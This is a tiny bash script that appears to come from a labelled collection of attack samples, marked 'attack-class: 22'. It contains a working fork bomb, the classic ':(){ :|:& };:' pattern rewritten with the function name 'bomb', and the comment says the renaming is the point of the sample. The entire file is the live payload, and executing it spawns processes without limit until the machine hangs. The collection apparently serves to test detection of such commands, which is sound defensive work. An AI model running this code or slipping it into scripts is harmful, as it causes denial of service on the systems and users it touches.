#!/usr/bin/env bash
# attack-class: 22
# title: bomb() { bomb | bomb & }; bomb
# why: the same with an ordinary function name

bomb() {
  bomb | bomb &
}
bomb
